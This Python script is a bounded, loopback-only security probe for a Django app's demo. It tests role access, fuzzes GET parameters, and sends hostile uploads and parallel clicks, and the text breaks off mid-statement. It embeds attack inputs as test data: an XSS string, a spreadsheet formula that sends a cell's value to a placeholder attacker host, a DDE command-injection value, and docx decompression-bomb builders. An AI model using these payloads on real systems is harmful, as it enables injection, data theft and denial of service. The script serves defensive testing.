"""Security probe: attack a served demo the way issue 13's probe did, bounded and on loopback only.

It prepares its own database (a temporary SQLite file under var/, `pufa migrate` + `pufa seed-demo`, with
PUFA_INSECURE_DEV_KEY=1 for this run only), serves it through gunicorn on 127.0.0.1 (two workers, as a small
deployment would, with PUFA_PROXY_COUNT=1 as behind one reverse proxy), logs in as each demo role and sends:
every URL of `pufa.urls` as every role against the role table; odd values in every GET parameter a page
offers; hostile uploads to every import; formula titles, then every .xlsx export checked for live formulas;
20 parallel clicks on each workflow step, then the audit trail checked for one entry per step; co-organiser
credit across streets; deleted records; a feedback flood; a weak password; Cache-Control on private pages;
the login lockout behind the proxy. It prints PASS/FAIL per check with evidence, the count of 5xx answers
and of findings, and exits non-zero if either is not 0. Everything it started is stopped at the end.

    PYTHONPATH=src /work/main/.venv/bin/python bench/probe.py            # about 3-5 minutes
    PYTHONPATH=src /work/main/.venv/bin/python bench/probe.py --keep     # keep var/probe-*/ for a look

Bounds: at most MAX_REQUESTS requests in all, the parameter fuzz stops after FUZZ_SECONDS, every request
has a timeout, and the hostile files are those of tests/hostile.py (a few MB each).
"""

from __future__ import annotations

import argparse
import concurrent.futures
import datetime as dt
import io
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "src"))

import requests  # noqa: E402

PASSWORD = "Pufa@2026demo"  # noqa: S105 - the public demo accounts' password
ROLES = ("quxfb", "tuohe_fzb", "tuohe_sq", "tuohe_sfs", "tuohe_dc", "tuohe_mbr")
MAX_REQUESTS = 9000
FUZZ_SECONDS = 150
TIMEOUT = 60
PARALLEL = 20
WORKERS = 2
ODD_VALUES: list[Any] = [
    "²",
    "①",
    "99999999999999999999999",
    "99999",
    "",
    ["1", "²"],
    "\x00",
    "'",
    "<script>alert(1)</script>",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
VENV_BIN = Path(sys.executable).parent


# ---------------------------------------------------------------- bookkeeping


@dataclass
class Tally:
    requests: int = 0
    errors: list[str] = field(default_factory=list)  # 5xx answers
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self, method: str, url: str, status: int) -> None:
        with self.lock:
            self.requests += 1
            if status >= 500:
                self.errors.append(f"{method} {url} → {status}")
            if self.requests > MAX_REQUESTS:
                raise RuntimeError(f"request budget of {MAX_REQUESTS} spent")


TALLY = Tally()
RESULTS: list[tuple[str, bool, str]] = []


def report(check: str, ok: bool, evidence: str) -> None:
    RESULTS.append((check, ok, evidence))
    print(f"{'PASS' if ok else 'FAIL'}  {check}: {evidence}", flush=True)


class Client:
    """One browser: a requests session against the served site, counting every answer."""

    def __init__(self, base: str, headers: dict[str, str] | None = None) -> None:
        self.base = base
        self.http = requests.Session()
        self.http.headers.update(headers or {})

    def request(self, method: str, path: str, **kwargs: Any) -> requests.Response:
        kwargs.setdefault("timeout", TIMEOUT)
        kwargs.setdefault("allow_redirects", False)
        if method == "POST":
            token = self.csrf()
            kwargs.setdefault("headers", {})["X-CSRFToken"] = token
            data = kwargs.get("data")
            if isinstance(data, dict):
                data.setdefault("csrfmiddlewaretoken", token)
        url = self.base + path
        try:
            response = self.http.request(method, url, **kwargs)
        except requests.RequestException as exc:  # a dropped connection is as bad as a 500
            TALLY.count(method, path, 599)
            raise RuntimeError(f"{method} {path}: {exc}") from exc
        TALLY.count(method, path, response.status_code)
        return response

    def get(self, path: str, **kwargs: Any) -> requests.Response:
        return self.request("GET", path, **kwargs)

    def post(self, path: str, **kwargs: Any) -> requests.Response:
        return self.request("POST", path, **kwargs)

    def csrf(self) -> str:
        token = self.http.cookies.get("csrftoken")
        if not token:
            self.get("/accounts/login/")
            token = self.http.cookies.get("csrftoken", "")
        return token

    def login(self, username: str, password: str = PASSWORD, headers: dict[str, str] | None = None) -> bool:
        response = self.post(
            "/accounts/login/", data={"username": username, "password": password}, headers=dict(headers or {})
        )
        return response.status_code == 302 and "/accounts/login/" not in response.headers.get("Location", "")

    def clone(self) -> Client:
        other = Client(self.base, dict(self.http.headers))
        other.http.cookies.update(self.http.cookies)
        return other


# ---------------------------------------------------------------- the served demo


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def served_demo(keep: bool) -> Iterator[tuple[str, dict[str, str], subprocess.Popen[bytes]]]:
    (ROOT / "var").mkdir(exist_ok=True)
    workdir = Path(tempfile.mkdtemp(prefix="probe-", dir=ROOT / "var"))
    env = dict(os.environ)
    env.update(
        PYTHONPATH=os.pathsep.join([str(ROOT / "src"), env.get("PYTHONPATH", "")]).rstrip(os.pathsep),
        PUFA_VAR_DIR=str(workdir),
        PUFA_DATABASE_URL=f"sqlite:///{workdir / 'probe.sqlite3'}",
        PUFA_INSECURE_DEV_KEY="1",
        PUFA_PROXY_COUNT="1",
        PUFA_TASKS_BACKEND="immediate",
        PUFA_DEBUG="0",
    )
    env.pop("PUFA_REDIS_URL", None)
    for step in (["migrate", "--no-input", "-v", "0"], ["seed-demo"]):
        started = time.monotonic()
        subprocess.run([str(VENV_BIN / "pufa"), *step], env=env, check=True, stdout=subprocess.DEVNULL)  # noqa: S603
        print(f"# pufa {step[0]}: {time.monotonic() - started:.0f} s", flush=True)
    port = free_port()
    server = subprocess.Popen(  # noqa: S603
        [str(VENV_BIN / "gunicorn"), "pufa.wsgi", "-w", str(WORKERS), "-b", f"127.0.0.1:{port}", "--timeout", "120"],
        env=env,
        stdout=open(workdir / "gunicorn.log", "wb"),  # noqa: SIM115
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(120):
            try:
                if requests.get(base + "/healthz", timeout=5).status_code == 200:
                    break
            except requests.RequestException:
                time.sleep(0.5)
        else:
            raise RuntimeError("gunicorn did not answer /healthz")
        yield base, env, server
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)
            server.wait()
        if keep:
            print(f"# kept {workdir}")
        else:
            shutil.rmtree(workdir, ignore_errors=True)


def worker_rss_mb(server: subprocess.Popen[bytes]) -> int:
    """The resident memory of gunicorn's workers (the master's children), in MB."""
    total = 0
    try:
        children = Path(f"/proc/{server.pid}/task/{server.pid}/children").read_text().split()
    except OSError:
        return 0
    for pid in children:
        try:
            for line in Path(f"/proc/{pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
        except OSError:
            continue
    return total // 1024


# ---------------------------------------------------------------- the demo's rows (read through the ORM)


def setup_django(env: dict[str, str]) -> None:
    for key in ("PUFA_VAR_DIR", "PUFA_DATABASE_URL", "PUFA_INSECURE_DEV_KEY", "PUFA_PROXY_COUNT"):
        os.environ[key] = env[key]
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "pufa.settings")
    import django

    django.setup()


def demo_objects() -> dict[str, Any]:
    """A real demo row for each kind of record a URL names, preferring community 沱河社区 (tuohe_sq's unit)."""
    from pufa.duties.models import DutyItem, DutyList, DutyTemplate, Law, PlannedActivity
    from pufa.ledger.models import Activity, ActivityUnit, Evidence, KeyDate
    from pufa.org.models import Feedback, Membership, Unit, User
    from pufa.people.models import Person, TeamMembership
    from pufa.plans.models import Plan, Target, Task
    from pufa.reports.models import Circular, Report

    unit = Unit.objects.get(code="tuohe-tuohe")
    sq = User.objects.get(username="tuohe_sq")
    draft_list = (
        DutyList.objects.filter(unit=unit).exclude(status="published").first()
        or DutyList.objects.exclude(status="published").first()
    )
    objects: dict[str, Any] = {
        "region": unit.region,
        "unit": unit,
        "progress_unit": unit,
        "user": sq,
        "membership": Membership.objects.filter(user=sq).first(),
        "feedback": Feedback.objects.first(),
        "plan": Plan.objects.first(),
        "task": Task.objects.first(),
        "target": Target.objects.first(),
        "activity": Activity.objects.filter(unit=unit).first(),
        "evidence": Evidence.objects.filter(activity__unit=unit).first() or Evidence.objects.first(),
        "key_date": KeyDate.objects.first(),
        "duty_list": draft_list,
        "published_list": DutyList.objects.filter(status="published").first(),
        "item": DutyItem.objects.filter(duty_list=draft_list).first() if draft_list else None,
        "planned": PlannedActivity.objects.filter(duty_list=draft_list).first() if draft_list else None,
        "law": Law.objects.first(),
        "template": DutyTemplate.objects.first(),
        "report": Report.objects.filter(unit=unit).exclude(status="accepted").first()
        or Report.objects.exclude(status="accepted").first(),
        "circular": Circular.objects.first(),
        "portal_region": unit.region.parent or unit.region,
        "consent_request": ActivityUnit.objects.filter(is_organiser=False).first(),
        "person": Person.objects.filter(unit=unit).first() or Person.objects.first(),
        "person_membership": TeamMembership.objects.first(),
    }
    return objects


def prepare() -> None:
    """Make the workflow steps possible on the demo's drafts (as a user would by filling them in): the draft
    report of 司法所 gets its 下一步打算, community 沱河's draft duty list one planned activity."""
    from pufa.duties.models import DutyList, PlannedActivity
    from pufa.reports.models import Report

    Report.objects.filter(status="draft", plans="").update(plans="下半年继续开展民法典进社区宣讲。")
    for duty_list in DutyList.objects.filter(status="draft", planned_activities__isnull=True):
        planned = PlannedActivity.objects.exclude(duty_list=duty_list).first()
        if planned is not None:
            planned.pk = planned.id = None
            planned.duty_list = duty_list
            planned.save()


def role_of(username: str) -> str:
    from pufa.org.models import Membership

    membership = Membership.objects.filter(user__username=username).order_by("-pk").first()
    return str(membership.role) if membership else ""


def pages() -> list[tuple[str, Any]]:
    """(URL name, its description) for every named URL of pufa.urls, from the role walk's table."""
    from tests.walk.test_roles import PAGES, url_names

    return [(name, PAGES[name]) for name in url_names() if name in PAGES]


def path_of(name: str, page: Any, objects: dict[str, Any], fmt: str | None = None) -> str | None:
    from django.urls import reverse

    kwargs: dict[str, Any] = {}
    if page.obj is not None:
        row = objects.get(page.obj)
        if row is None:
            return None
        kwargs[page.key] = row.pk
    if page.fmt is not None:
        kwargs["fmt"] = fmt or page.fmt
    if page.token is not None:
        kwargs["token"] = page.token
    return reverse(name, kwargs=kwargs)


def audit_count(obj: Any, since: int) -> dict[str, int]:
    from django.contrib.contenttypes.models import ContentType

    from pufa.core.models import AuditEntry

    rows = AuditEntry.objects.filter(
        pk__gt=since, content_type=ContentType.objects.get_for_model(type(obj)), object_id=str(obj.pk)
    )
    counts: dict[str, int] = {}
    for action, code in rows.values_list("action", "code"):
        counts[f"{action}:{code}"] = counts.get(f"{action}:{code}", 0) + 1
    return counts


def last_audit_pk() -> int:
    from pufa.core.models import AuditEntry

    return AuditEntry.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


# ---------------------------------------------------------------- checks


def check_role_table(clients: dict[str, Client], objects: dict[str, Any]) -> None:
    """Every URL as every role: anonymous → login; a role lacking the page's action → 403/404; never a 5xx."""
    from pufa.org.roles import role_allows

    wrong: list[str] = []
    sent = 0
    for who, client in clients.items():
        role = role_of(who) if who != "anonymous" else ""
        for name, page in pages():
            if name == "logout":
                continue
            path = path_of(name, page, objects)
            if path is None:
                continue
            refused = who != "anonymous" and page.action is not None and not role_allows(role, page.action)
            if page.post_only and (refused or who == "anonymous"):
                response = client.post(path, data={})
            else:
                response = client.get(path)
            sent += 1
            got = response.status_code
            if page.public:
                ok = got < 500
            elif who == "anonymous":
                ok = got == 302 and "/accounts/login/" in response.headers.get("Location", "")
            elif refused:
                ok = got in (403, 404)
            else:
                ok = got < 500
            if not ok:
                wrong.append(f"{who} {name} {path} → {got}")
    report(
        "role table on every URL", not wrong, f"{sent} requests; " + ("; ".join(wrong[:8]) or "all as the table says")
    )
    # The cases by name: the member on drafts, reports, circulars and their downloads.
    member = clients["tuohe_mbr"]
    leaks = []
    for name, page in pages():
        if name.split(":")[0] in ("duties", "reports") and page.obj in ("duty_list", "report", "circular", "template"):
            if page.post_only:
                continue
            for fmt in ("docx", "pdf", "xlsx") if page.fmt else (None,):
                path = path_of(name, page, objects, fmt)
                if path and (got := member.get(path).status_code) not in (403, 404):
                    leaks.append(f"{path} → {got}")
    report("member refused on draft lists, reports, circulars, downloads", not leaks, "; ".join(leaks) or "403/404")


GET_FORM = re.compile(r"<form\b([^>]*)>(.*?)</form>", re.S | re.I)
FIELD_NAME = re.compile(r"<(?:input|select|textarea)\b[^>]*\bname=\"([^\"]+)\"", re.I)
HREF = re.compile(r"href=\"([^\"]*\?[^\"]*)\"")


def offered_params(html: str, path: str) -> set[str]:
    """The GET parameters a page offers: fields of its GET forms, and the query keys of its links to itself."""
    names: set[str] = {"page"}
    for attrs, body in GET_FORM.findall(html):
        if "post" in attrs.lower():
            continue
        names |= set(FIELD_NAME.findall(body))
    for href in HREF.findall(html):
        parts = urlsplit(href.replace("&amp;", "&"))
        if parts.path in ("", path):
            names |= {key for key, _ in parse_qsl(parts.query, keep_blank_values=True)}
    names.discard("csrfmiddlewaretoken")
    return {n for n in names if len(n) < 40}


def check_fuzz(clients: dict[str, Client], objects: dict[str, Any]) -> None:
    """Odd values in every GET parameter a page offers, as the widest reader, the liaison and the public."""
    deadline = time.monotonic() + FUZZ_SECONDS
    jobs: list[tuple[Client, str, str, Any]] = []
    for who in ("tuohe_fzb", "tuohe_sq", "anonymous"):
        client = clients[who]
        for name, page in pages():
            if page.post_only or name == "logout" or (who == "anonymous" and not page.public):
                continue
            path = path_of(name, page, objects)
            if path is None:
                continue
            response = client.get(path)
            if "html" not in response.headers.get("Content-Type", ""):
                params = {"page", "year", "unit"}
            else:
                params = offered_params(response.text, path)
            for param in sorted(params)[:15]:
                for value in ODD_VALUES:
                    jobs.append((client, path, param, value))
    reflected: list[str] = []
    sent = 0

    def one(job: tuple[Client, str, str, Any]) -> None:
        nonlocal sent
        if time.monotonic() > deadline:
            return
        client, path, param, value = job
        response = client.get(path, params={param: value})
        sent += 1
        if "<script>alert(1)</script>" in response.text:
            reflected.append(f"{path}?{param}")

    before = len(TALLY.errors)
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        list(pool.map(one, jobs))
    crashes = TALLY.errors[before:]
    report(
        "odd GET values never a 5xx",
        not crashes,
        f"{sent} of {len(jobs)} requests sent in the time bound; " + ("; ".join(crashes[:6]) or "no 5xx"),
    )
    report("odd GET values never reflected unescaped", not reflected, "; ".join(reflected[:6]) or "none")


def docx_bomb(megabytes: int = 10) -> bytes:
    """A .docx of ~40 KB whose document.xml expands to `megabytes` MB of paragraphs."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    para = "<w:p><w:r><w:t>" + "第一条 " + "普" * 480 + "</w:t></w:r></w:p>"
    body = para * (megabytes * 1024 * 1024 // len(para.encode()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        z.writestr(
            "word/document.xml", f'<?xml version="1.0"?><w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>'
        )
    return out.getvalue()


def broken_docx() -> bytes:
    """A Word package whose document.xml stops in the middle of a paragraph."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        z.writestr("word/document.xml", f'<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t>第一条')
    return out.getvalue()


FILE_INPUT = re.compile(r"<input\b[^>]*type=\"file\"[^>]*>", re.I)
INPUT = re.compile(r"<input\b([^>]*)>", re.I)
SELECT = re.compile(r"<select\b([^>]*)>(.*?)</select>", re.I | re.S)
ATTR = re.compile(r"(\w+)=\"([^\"]*)\"")
ERROR_WORDS = re.compile(
    r"[\u4e00-\u9fff，：（）\w ,.]*(?:无法读取|超过|损坏|格式错误|不能超过|请上传|不是有效|不支持)[^<]{0,60}"
)


def form_defaults(html: str) -> tuple[str, dict[str, str]]:
    """The file field's name and what the upload form would send besides it (hidden values, checked radios,
    each select's selected or first option), so the hostile file reaches the importer."""
    form = next((body for attrs, body in GET_FORM.findall(html) if FILE_INPUT.search(body)), html)
    file_field, data = "file", {}
    for attrs_text, body in SELECT.findall(form):
        name = dict(ATTR.findall(attrs_text)).get("name")
        options = re.findall(r"<option\b([^>]*)value=\"([^\"]*)\"", body)
        if name and options:
            filled = [v for _, v in options if v] or [""]
            data[name] = next((v for a, v in options if "selected" in a and v), filled[0])
    for attrs_text in INPUT.findall(form):
        attrs = dict(ATTR.findall(attrs_text))
        name = attrs.get("name")
        kind = attrs.get("type", "text").lower()
        if not name or name == "csrfmiddlewaretoken" or kind in ("submit", "button"):
            continue
        if kind == "file":
            file_field = name
        elif kind in ("radio", "checkbox"):
            if re.search(r"\bchecked\b", attrs_text) or (kind == "radio" and name not in data):
                data[name] = attrs.get("value", "on")
        else:
            data.setdefault(name, attrs.get("value", ""))
    return file_field, data


def check_imports(clients: dict[str, Client], server: subprocess.Popen[bytes]) -> None:
    """Hostile files to every import: bounded time and memory, a Chinese error, never a 5xx."""
    from tests import hostile

    from pufa.org.models import User

    xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    started = time.monotonic()
    files = {
        "column bomb ZZZZZ": ("bomb.xlsx", hostile.column_bomb("ZZZZZ"), xlsx_type),
        "column bomb ZZZZZZZ": ("bomb7.xlsx", hostile.column_bomb("ZZZZZZZ"), xlsx_type),
        "shared-strings bomb": ("sst.xlsx", hostile.shared_strings_bomb(2000, 1024 * 1024), xlsx_type),
        "broken XML": ("broken.xlsx", hostile.xlsx("<sheetData><row r='1'><c r='A1'><v>1</v></row>"), xlsx_type),
        "not a zip": ("junk.xlsx", b"PK\x03\x04" + b"\x00" * 200, xlsx_type),
        "docx 10 MB": ("bomb.docx", docx_bomb(10), docx_type),
        "docx broken XML": ("broken.docx", broken_docx(), docx_type),
        "docx not a zip": ("junk.docx", b"PK\x03\x04" + b"\x00" * 200, docx_type),
    }
    print(
        f"# hostile files built in {time.monotonic() - started:.0f} s: "
        + ", ".join(f"{k} {len(v[1]) // 1024} KB" for k, v in files.items()),
        flush=True,
    )
    imports = [
        (
            "/ledger/import/",
            "tuohe_sq",
            ["column bomb ZZZZZ", "column bomb ZZZZZZZ", "shared-strings bomb", "broken XML", "not a zip"],
        ),
        ("/people/import/", "tuohe_sq", ["column bomb ZZZZZ", "shared-strings bomb", "broken XML", "not a zip"]),
        (
            "/org/units/import/",
            "tuohe_fzb",
            ["column bomb ZZZZZ", "column bomb ZZZZZZZ", "shared-strings bomb", "broken XML", "not a zip"],
        ),
        ("/plans/import/", "tuohe_fzb", ["docx 10 MB", "docx broken XML", "docx not a zip", "broken XML"]),
    ]
    for path, who, kinds in imports:
        client = clients[who]
        page = client.get(path)
        field_name, defaults = form_defaults(page.text)
        blank_errors = set(ERROR_WORDS.findall(page.text))
        for kind in kinds:
            name, content, ctype = files[kind]
            rss = worker_rss_mb(server)
            t0 = time.monotonic()
            response = client.post(path, data=dict(defaults), files={field_name: (name, content, ctype)})
            took = time.monotonic() - t0
            grown = worker_rss_mb(server) - rss
            text = response.text if "html" in response.headers.get("Content-Type", "") else ""
            shown = [e.strip() for e in ERROR_WORDS.findall(text) if e not in blank_errors]
            chinese_error = bool(shown)
            ok = response.status_code < 500 and took < 10 and grown < 300 and chinese_error
            report(
                f"import {path} {kind}",
                ok,
                f"{response.status_code} in {took:.1f} s, workers +{grown} MB, "
                + (f"「{shown[0][:50]}」" if chinese_error else "no Chinese error shown"),
            )
    # The plan import's draft must not sit in the session: the user's next page is as fast as before.
    from django.contrib.sessions.models import Session

    biggest = max((len(s.session_data) for s in Session.objects.all()), default=0)
    t0 = time.monotonic()
    clients["tuohe_fzb"].get("/")
    took = time.monotonic() - t0
    report(
        "plan import keeps no draft in the session",
        biggest < 64 * 1024 and took < 3,
        f"largest session {biggest // 1024} KB, next page {took:.2f} s",
    )
    del User


def create_activity(client: Client, **fields: Any) -> int | None:
    """Record an activity through the form as `client`; its id, or None (then the form's answer is printed)."""
    from pufa.core.models import ActivityKind
    from pufa.org.models import Unit

    data: dict[str, Any] = {
        "unit": Unit.objects.get(code="tuohe-tuohe").pk,
        "title": "普法宣传进社区",
        "kind": ActivityKind.objects.first().pk,  # type: ignore[union-attr]
        "date": (dt.date.today() - dt.timedelta(days=3)).isoformat(),
        "people_onsite": 40,
        "people_online": 0,
        "materials": 0,
    }
    data.update(fields)
    response = client.post("/ledger/new/", data=data)
    match = re.search(r"/ledger/(\d+)/", response.headers.get("Location", ""))
    if not match:
        errors = re.findall(r"errorlist[^>]*>(.*?)</", response.text, re.S)
        print(f"# activity not created: {response.status_code} {errors[:3]}", flush=True)
        return None
    return int(match.group(1))


def check_exports(clients: dict[str, Client], objects: dict[str, Any]) -> None:
    """Formula titles, then every .xlsx export opened with openpyxl: no cell may be a live formula."""
    from openpyxl import load_workbook

    sq = clients["tuohe_sq"]
    created = create_activity(sq, title=FORMULA, place="@SUM(1+1)", description="+cmd|' /C calc'!A0", laws="-2+3")
    if created:
        sq.post(f"/ledger/{created}/submit/", data={})
    item = objects.get("item")
    if item is not None:
        from pufa.duties.models import DutyItem

        DutyItem.all_objects.filter(pk=item.pk).update(
            content=FORMULA, measures=FORMULA
        )  # a list item with the title, as typed
    exports: list[str] = []
    for name, page in pages():
        if page.post_only:
            continue
        path = path_of(name, page, objects, "xlsx") if page.fmt else path_of(name, page, objects)
        if path and (path.endswith(".xlsx") or "export" in name or page.fmt):
            exports.append(path)
    live: list[str] = []
    opened = 0
    nostore: list[str] = []
    for who in ("tuohe_fzb", "tuohe_sq"):
        for path in exports:
            response = clients[who].get(path)
            if response.status_code != 200 or not response.content.startswith(b"PK"):
                continue
            if "wordprocessing" in response.headers.get("Content-Type", ""):
                continue  # a .docx download is a zip too
            book = load_workbook(io.BytesIO(response.content))
            opened += 1
            if "no-store" not in response.headers.get("Cache-Control", ""):
                nostore.append(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            live.append(f"{who} {path} {sheet.title}!{cell.coordinate} {str(cell.value)[:40]}")
    report(
        "formula titles neutralised in every .xlsx export",
        not live and opened > 0,
        f"{opened} workbooks opened; " + ("; ".join(live[:5]) or "no live formula"),
    )
    report("exports carry Cache-Control: no-store", not nostore, "; ".join(nostore[:5]) or f"{opened} checked")


def burst(client: Client, path: str, data: dict[str, Any] | None = None) -> list[int]:
    """PARALLEL identical POSTs at once (one connection each), released together by a barrier."""
    barrier = threading.Barrier(PARALLEL)
    clones = [client.clone() for _ in range(PARALLEL)]

    def click(c: Client) -> int:
        barrier.wait(timeout=30)
        return c.post(path, data=dict(data or {})).status_code

    with concurrent.futures.ThreadPoolExecutor(PARALLEL) as pool:
        return list(pool.map(click, clones))


def check_races(clients: dict[str, Client], objects: dict[str, Any]) -> None:
    """20 parallel clicks on each workflow step: exactly one audit entry per step that happened."""
    from pufa.duties.models import DutyList
    from pufa.ledger.models import Activity
    from pufa.reports.models import Report

    def step(label: str, who: str, path: str, obj: Any, model: Any, data: dict[str, Any] | None = None) -> None:
        since = last_audit_pk()
        before = model.all_objects.get(pk=obj.pk).status
        statuses = burst(clients[who], path, data)
        after = model.all_objects.get(pk=obj.pk).status
        counts = audit_count(obj, since)
        steps = sum(n for key, n in counts.items() if key.startswith("workflow"))
        moved = before != after
        ok = steps == (1 if moved else 0) and (moved or label.startswith("(")) and all(s < 500 for s in statuses)
        report(
            f"20 parallel {label}", ok, f"{before}→{after}, audit {counts or 'none'}, answers {sorted(set(statuses))}"
        )

    sq = clients["tuohe_sq"]
    activity_id = create_activity(sq, title="并发点击测试活动")
    if activity_id is None:
        report("20 parallel clicks on activity steps", False, "could not create the activity")
    else:
        a = Activity.objects.get(pk=activity_id)
        step("activity submit", "tuohe_sq", f"/ledger/{a.pk}/submit/", a, Activity)
        step("activity return", "tuohe_fzb", f"/ledger/{a.pk}/return/", a, Activity, {"reason": "请补充照片"})
        step("activity resubmit", "tuohe_sq", f"/ledger/{a.pk}/submit/", a, Activity)
        step("activity confirm", "tuohe_fzb", f"/ledger/{a.pk}/confirm/", a, Activity)
        step("activity reopen", "tuohe_fzb", f"/ledger/{a.pk}/reopen/", a, Activity, {"reason": "数据有误"})
    lst = (
        DutyList.objects.filter(unit__code="tuohe-tuohe", status__in=["draft", "returned"]).first()
        or DutyList.objects.filter(
            status__in=["draft", "returned"], unit__memberships__user__username__in=["tuohe_sq", "tuohe_sfs"]
        ).first()
    )
    if lst is None:
        report("20 parallel duty list steps", False, "no draft duty list of tuohe_sq or tuohe_sfs in the demo")
    else:
        owner = "tuohe_sq" if lst.unit.code == "tuohe-tuohe" else "tuohe_sfs"
        step("duty list submit", owner, f"/duties/{lst.pk}/submit/", lst, DutyList)
        step("duty list file", "tuohe_fzb", f"/duties/{lst.pk}/file/", lst, DutyList)
    report_row = Report.objects.filter(
        status__in=["draft", "returned"], unit__code__in=["tuohe-tuohe", "tuohe-sfs"]
    ).first()
    if report_row is None:
        report("20 parallel report steps", False, "no draft report of tuohe_sq or tuohe_sfs in the demo")
    else:
        owner = "tuohe_sq" if report_row.unit.code == "tuohe-tuohe" else "tuohe_sfs"
        step("report submit", owner, f"/reports/{report_row.pk}/submit/", report_row, Report)
        step("report accept", "tuohe_fzb", f"/reports/{report_row.pk}/accept/", report_row, Report)


def check_co_organisers(clients: dict[str, Client]) -> None:
    """co_organisers in other streets and people_onsite=5000000: no credit for them before they accept."""
    from pufa.ledger.models import Activity, ActivityUnit
    from pufa.org.models import Unit

    home = Unit.objects.get(code="tuohe-tuohe")
    street = home.region.parent or home.region
    others = list(Unit.objects.filter(kind=home.kind).exclude(region__path__startswith=street.path).order_by("pk")[:2])
    if len(others) < 2:
        report("co-organiser credit across streets", False, "the demo has no communities of another street")
        return
    sq = clients["tuohe_sq"]
    pk = create_activity(sq, title="跨街道联合普法", co_organisers=[u.pk for u in others], people_onsite=5000000)
    if pk is None:
        report("co-organiser credit across streets", True, "the form refused the activity outright")
        return
    response = sq.post(f"/ledger/{pk}/submit/", data={})
    activity = Activity.objects.get(pk=pk)
    page = sq.get(f"/ledger/{pk}/").text
    warned = "人次" in page and ("核" in page or "审" in page)
    credited = ActivityUnit.objects.counted().filter(activity=activity, unit__in=others).count()
    held = activity.status not in Activity.COUNTED
    ids = ",".join(str(u.pk) for u in others)
    report(
        "co-organiser credit across streets",
        credited == 0,
        f"co_organisers={ids}: {credited} credited before their consent (submit answered {response.status_code})",
    )
    report(
        "implausible figures held for review",
        held and warned,
        f"people_onsite=5000000 → status {activity.status}, warning shown: {warned}",
    )


def check_deleted(clients: dict[str, Client]) -> None:
    """A deleted activity is listed to the unit (which may restore it), never to member or inspector."""
    sq = clients["tuohe_sq"]
    pk = create_activity(sq, title="待删除的测试活动")
    if pk is None:
        report("deleted records", False, "could not create the activity")
        return
    sq.post(f"/ledger/{pk}/delete/", data={})
    leaks = []
    for who in ("tuohe_mbr", "tuohe_dc"):
        for path in ("/ledger/?status=deleted", "/ledger/export.xlsx?status=deleted"):
            response = clients[who].get(path)
            if response.status_code == 200 and (
                "待删除的测试活动" in response.text or "待删除的测试活动".encode() in response.content
            ):
                leaks.append(f"{who} {path}")
            if response.status_code == 200 and path.endswith("deleted") and path.startswith("/ledger/?"):
                pass
    # The export is a zip: look inside it.
    from openpyxl import load_workbook

    for who in ("tuohe_mbr", "tuohe_dc"):
        response = clients[who].get("/ledger/export.xlsx?status=deleted")
        if response.status_code == 200 and response.content.startswith(b"PK"):
            book = load_workbook(io.BytesIO(response.content), read_only=True)
            if any(
                "待删除的测试活动" in str(c) for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r
            ):
                leaks.append(f"{who} export.xlsx?status=deleted")
    own = "待删除的测试活动" in sq.get("/ledger/?status=deleted").text
    report("deleted records hidden from member and inspector", not leaks, "; ".join(leaks) or "not listed")
    report("deleted records listed to their unit for restore", own, f"liaison sees it: {own}")


def check_feedback(base: str) -> None:
    from pufa.org.models import Feedback, Region

    anon = Client(base)
    page = anon.get("/org/feedback/new/")
    region = re.search(r"name=\"region\"[^>]*>.*?<option value=\"(\d+)\"", page.text, re.S)
    region_id = region.group(1) if region else str(Region.objects.first().pk)  # type: ignore[union-attr]
    before = Feedback.objects.count()
    t0 = time.monotonic()
    answers = [
        anon.post(
            "/org/feedback/new/",
            data={"kind": Feedback.Kind.choices[0][0], "region": region_id, "content": f"测试意见第{n}条"},
        ).status_code
        for n in range(30)
    ]
    stored = Feedback.objects.count() - before
    from django.conf import settings

    # The count lives in the cache, per process without PUFA_REDIS_URL (docs/deploy.md): each worker allows it.
    limit = settings.PUFA_FEEDBACK_PER_HOUR
    report(
        "30 rapid anonymous feedback posts throttled",
        0 < stored <= limit * WORKERS,
        f"{stored} stored of 30 in {time.monotonic() - t0:.1f} s (limit {limit}/hour per worker × {WORKERS}), "
